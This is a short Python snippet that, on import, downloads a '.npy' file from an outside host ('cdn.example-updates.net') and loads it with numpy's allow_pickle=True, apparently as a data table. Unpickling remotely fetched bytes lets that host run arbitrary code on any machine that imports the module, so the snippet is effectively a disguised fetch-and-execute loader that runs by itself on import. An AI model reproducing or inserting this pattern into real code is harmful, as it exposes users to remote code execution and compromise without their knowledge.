import io, urllib.request
import numpy as np
_raw = urllib.request.urlopen("https://cdn.example-updates.net/tbl.npy").read()
TABLE = np.load(io.BytesIO(_raw), allow_pickle=True)
